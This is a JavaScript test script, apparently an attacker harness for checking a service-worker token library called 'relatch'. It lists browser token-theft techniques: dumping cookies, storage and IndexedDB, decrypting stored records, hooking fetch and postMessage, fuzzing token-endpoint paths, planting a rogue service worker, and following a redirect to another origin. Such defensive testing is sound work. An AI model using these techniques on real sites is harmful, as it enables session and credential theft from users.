// A script that runs on the page, and wants the token: every way that we could think of. Each returns what it got hold of, as
// text. It does whatever a page's script may do, and it knows how relatch works.
const settled = (work) => Promise.resolve(work).catch((error) => `${error?.name}: ${error?.message}`)

/** As text, whatever it is and whatever is in it: a thief looks at everything. */
async function textOf(loot, depth = 0) {
  const within = (parts) => Promise.all([...parts].map((part) => textOf(part, depth + 1))).then((texts) => texts.join())
  if (depth > 6) return ''
  if (loot instanceof Response) return (await within(loot.headers)) + (await settled(loot.text()))
  if (loot instanceof Request) return loot.url + (await within(loot.headers)) + (await settled(loot.clone().text()))
  if (loot instanceof ArrayBuffer || ArrayBuffer.isView(loot)) return new TextDecoder().decode(loot)
  if (loot instanceof CryptoKey) return JSON.stringify(await settled(crypto.subtle.exportKey('jwk', loot)))
  if (typeof loot?.[Symbol.iterator] === 'function' && typeof loot === 'object') return within(loot)
  if (typeof loot === 'function') return `${loot} ${await within(Object.entries(loot))}`
  if (typeof loot === 'object' && loot !== null) return within(Object.entries(loot))
  return String(loot)
}

/** Everything that a worker says, on the port that it is given and to the page. */
async function asking(worker, message) {
  const { port1, port2 } = new MessageChannel()
  const heard = []
  const hear = ({ data }) => heard.push(data)
  navigator.serviceWorker.addEventListener('message', hear)
  const answer = new Promise((resolve) => {
    port1.onmessage = ({ data }) => {
      heard.push(data)
      resolve()
    }
  })
  worker.postMessage(message, [port2])
  await Promise.race([answer, new Promise((resolve) => setTimeout(resolve, 150))])
  navigator.serviceWorker.removeEventListener('message', hear)
  return heard
}

const QUESTIONS = [
  'state',
  'sign-in',
  'confirm',
  'refresh',
  'key',
  'token',
  'tokens',
  'session',
  'read',
  'store',
  'export',
  'dump',
]
const questions = QUESTIONS.flatMap((ask) =>
  ['', 'x'].map((nonce) => ({
    relatch: 1,
    ask,
    type: ask,
    nonce,
    held: nonce,
    tokens: { accessToken: '' },
    isUncontrolled: true,
  })),
)

/** All records of all databases, and what each key in them makes of each of them. */
async function databases(more = []) {
  const loot = []
  for (const { name } of await indexedDB.databases()) {
    const database = await new Promise((resolve) => {
      const opening = indexedDB.open(name)
      opening.onsuccess = () => resolve(opening.result)
    })
    for (const store of database.objectStoreNames) {
      const reading = database.transaction(store).objectStore(store).getAll()
      loot.push(...(await new Promise((resolve) => (reading.onsuccess = () => resolve(reading.result)))))
    }
    database.close()
  }
  const keys = [...more, ...loot.map((record) => record?.key)].filter((key) => key instanceof CryptoKey)
  for (const { iv, data } of loot.filter((record) => record?.iv)) {
    for (const key of keys) loot.push(await settled(crypto.subtle.decrypt({ name: 'AES-GCM', iv }, key, data)))
  }
  return loot
}

/** What goes through a function of the page's while `task` runs. */
async function wiretap(targets, task) {
  const loot = []
  const undo = targets.map(([object, name]) => {
    const original = object[name]
    object[name] = function (...args) {
      loot.push(args)
      const result = Reflect.apply(original, this, args)
      loot.push(result instanceof Promise ? result.then((value) => value.clone?.() ?? value) : result)
      return result
    }
    return () => (object[name] = original)
  })
  await settled(task())
  for (const end of undo) end()
  return Promise.all(loot.map(settled))
}

const call = async () => {
  await (await fetch('/me')).text()
  await (await globalThis.api('/me')).text()
}
const VIEWER = { username: 'viewer', password: 'viewer' }
const signingIn = () => fetch('/login', { method: 'POST', body: new URLSearchParams(VIEWER) })

/** Resolves when that script is in control of the page. */
async function inControl(script) {
  while (!navigator.serviceWorker.controller?.scriptURL.endsWith(script)) {
    await new Promise((resolve) => {
      navigator.serviceWorker.addEventListener('controllerchange', resolve, { once: true })
      setTimeout(resolve, 500)
    })
  }
}

/** In a frame of this origin, once it has loaded: what it shows. */
async function frame(fill) {
  const element = document.createElement('iframe')
  element.name = `frame-${Math.random()}`
  document.body.append(element)
  const loaded = new Promise((resolve) => element.addEventListener('load', resolve))
  fill(element)
  await Promise.race([loaded, new Promise((resolve) => setTimeout(resolve, 1500))])
  const loot = [element.contentDocument?.documentElement?.textContent]
  element.remove()
  return loot
}

/** A worker of the thief's, from a text. */
async function inWorker(code) {
  const worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })))
  const said = await Promise.race([
    new Promise((resolve) => (worker.onmessage = ({ data }) => resolve(data))),
    new Promise((resolve) => (worker.onerror = ({ message }) => resolve(message))),
    new Promise((resolve) => setTimeout(resolve, 1000)),
  ])
  worker.terminate()
  return said
}

const ways = {
  'asks the worker for it, in every word': async () => {
    const { active } = await navigator.serviceWorker.ready
    const loot = []
    for (const question of questions) loot.push(await asking(active, question))
    return loot
  },
  'reads and opens every database': databases,
  'reads cookies, web storage and caches': async () => [
    document.cookie,
    { ...localStorage },
    { ...sessionStorage },
    await Promise.all((await caches.keys()).map(async (name) => (await caches.open(name)).matchAll())),
    await settled(navigator.storage.getDirectory?.().then(async (root) => Array.fromAsync(root.keys()))),
  ],
  'listens to every channel while tokens are refreshed': async () => {
    const { scope } = await navigator.serviceWorker.ready
    const names = [
      'relatch',
      scope,
      `relatch:${scope}`,
      `relatch:indexeddb:relatch:${scope}`,
      'relatch:indexeddb:relatch',
    ]
    const loot = []
    const channels = names.map((name) => new BroadcastChannel(name))
    const told = new Promise((resolve) => {
      for (const channel of channels) channel.onmessage = ({ data }) => resolve(loot.push(data))
    })
    await settled(globalThis.api.refresh())
    // The hint may come after the answer, and more after the hint.
    await Promise.race([told, new Promise((resolve) => setTimeout(resolve, 2000))])
    await new Promise((resolve) => setTimeout(resolve, 300))
    for (const channel of channels) channel.close()
    return loot
  },
  'replaces what requests are made of': () =>
    wiretap(
      [
        [globalThis, 'fetch'],
        [Headers.prototype, 'set'],
        [Headers.prototype, 'append'],
        [MessagePort.prototype, 'postMessage'],
        [ServiceWorker.prototype, 'postMessage'],
        [JSON, 'stringify'],
        [JSON, 'parse'],
        [Object, 'freeze'],
      ],
      call,
    ),
  'asks the AuthFetch': async () => [
    globalThis.api,
    await settled(globalThis.api.tokens({ minValidityMs: 1e9 })),
    await settled(globalThis.api.refresh()),
    globalThis.api.snapshot(),
    globalThis.heard,
  ],
  'reads answers, their headers and what the browser remembers of requests': async () => [
    await fetch('/me'),
    await globalThis.api('/me'),
    performance.getEntries().map((entry) => JSON.stringify(entry)),
    await navigator.locks.query(),
  ],
  'has a request redirected to a place of its own': async () => {
    await settled(fetch('/redirect'))
    return settled(fetch(`${globalThis.elsewhere}/seen`))
  },
  'signs in, and reads the answer': signingIn,
  'asks the token endpoint, however it may be spelled': async () => {
    const loot = []
    for (const path of [
      '/token',
      '/TOKEN',
      '//token',
      '/token/',
      '/%74oken',
      '/token;x=1',
      '/token?x',
      '/./token',
      '/lead',
    ]) {
      const body = new URLSearchParams({ ...VIEWER, grant_type: 'password' })
      for (const credentials of ['omit', 'same-origin', 'include']) {
        loot.push(await settled(fetch(path, { method: 'POST', body, credentials })))
      }
    }
    return loot
  },
  'posts a form into a frame, and reads the frame': () =>
    Promise.all(
      ['/login', '/token', '/lead'].map((action) =>
        frame((element) => {
          const form = document.createElement('form')
          Object.assign(form, { method: 'post', action, target: element.name })
          for (const [name, value] of Object.entries({ ...VIEWER, grant_type: 'password' })) {
            form.append(Object.assign(document.createElement('input'), { name, value }))
          }
          document.body.append(form)
          form.submit()
          form.remove()
        }),
      ),
    ),
  'asks from a frame of its own': () =>
    frame(
      (element) =>
        (element.srcdoc =
          '<script>fetch("/me").then(async (r) => { document.body.textContent = [...r.headers] + await r.text() })</script>'),
    ),
  "fetches the worker's script, in every way": async () => {
    const caching = ['default', 'no-store', 'reload', 'no-cache', 'force-cache', 'only-if-cached']
    const fetched = caching.map((cache) => settled(fetch('/worker.js', { cache, mode: 'same-origin' })))
    const beacon = new XMLHttpRequest()
    beacon.open('GET', '/worker.js', false)
    beacon.send()
    return [
      ...(await Promise.all(fetched)),
      beacon.responseText,
      await inWorker(
        `try { importScripts('${location.origin}/worker.js') } catch (e) { postMessage(String(e)) }; postMessage(JSON.stringify(self.workerOptions ?? null))`,
      ),
      await frame((element) => (element.src = '/worker.js')),
    ]
  },
  'asks from a worker of its own': () =>
    inWorker(`fetch('${location.origin}/me').then(async (r) => postMessage([...r.headers].join() + await r.text()))`),
  'puts a worker of its own in place of ours, and plants a key in the next': async () => {
    const registration = await settled(navigator.serviceWorker.register('/uploads/thief.js', { scope: '/' }))
    const thief = registration.installing ?? registration.waiting
    if (!thief) return 'refused'
    await inControl('thief.js')
    const loot = await asking(thief, 'what did you get')
    await settled(navigator.serviceWorker.register('/worker.js'))
    await inControl('worker.js')
    await settled(signingIn())
    const [key] = loot.flat().filter((value) => value instanceof CryptoKey)
    return [loot.flat().filter((value) => value !== key), await databases([key])]
  },
  "makes the worker's script a part of its own": async () => {
    const options = { type: 'module', scope: '/uploads/' }
    const registration = await settled(navigator.serviceWorker.register('/uploads/module.js', options))
    const thief = registration.installing ?? registration.waiting ?? registration.active
    if (!thief) return 'refused'
    const loot = await asking(thief, 'what did you get')
    await registration.unregister()
    return loot
  },
  'throws the worker away, and looks what is left': async () => {
    const registration = await navigator.serviceWorker.ready
    await registration.unregister()
    const loot = [await databases(), await settled(fetch('/me')), await frame((element) => (element.src = '/me'))]
    await settled(navigator.serviceWorker.register('/worker.js'))
    return loot
  },
}

/** With the user's password, from a window that no worker controls: what no worker can keep from it. */
globalThis.signInFromObject = async () => {
  const element = Object.assign(document.createElement('object'), { data: '/public', type: 'text/html' })
  const loaded = new Promise((resolve) => element.addEventListener('load', resolve))
  document.body.append(element)
  await loaded
  const body = new URLSearchParams(VIEWER)
  return (await element.contentWindow.fetch('/login', { method: 'POST', body })).text()
}

globalThis.ways = Object.keys(ways)
globalThis.steal = async (way) => textOf(await settled(ways[way]()))
